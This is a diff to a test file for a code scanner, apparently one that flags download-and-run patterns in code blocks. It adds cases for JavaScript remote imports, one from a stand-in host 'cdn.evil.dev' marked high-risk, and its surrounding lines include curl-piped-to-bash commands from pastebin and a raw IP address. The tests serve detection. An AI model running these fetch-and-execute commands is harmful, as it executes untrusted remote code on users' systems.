@@ -27,6 +27,7 @@ test.each([
     "unseen high",
     "python",
   ],
+  ['const m = await import("https://cdn.evil.dev/main.mjs");\nm.default();', "unseen high", "js"],
   ["curl -s https://pastebin.com/raw/x | bash", "unseen critical"],
   ["curl -s http://93.184.216.34/x | bash", "unseen critical"],
   ["curl -s https://raw.githubusercontent.com/someone/tool/main/x.sh | bash", "unseen medium"],
@@ -54,6 +55,8 @@ test.each([
   ["curl -LO https://vendor.io/tool.tgz && tar xzf tool.tgz"],
   ["curl -s https://api.vendor.io/v1 || bash fallback.sh"],
   ["curl | bash"],
+  ['const d3 = await import("https://cdn.jsdelivr.net/npm/d3@7/+esm");\nd3.select("a");', "js"],
+  ['const fs = await import("node:fs");\nfs.readFileSync("a");', "js"],
   ["curl https://<your-host>/install.sh | bash"],
 ])("%s is fine", (code, language = "sh") => {
   expect(findingsOf("download-and-run", inBlock(code, language))).toEqual([]);
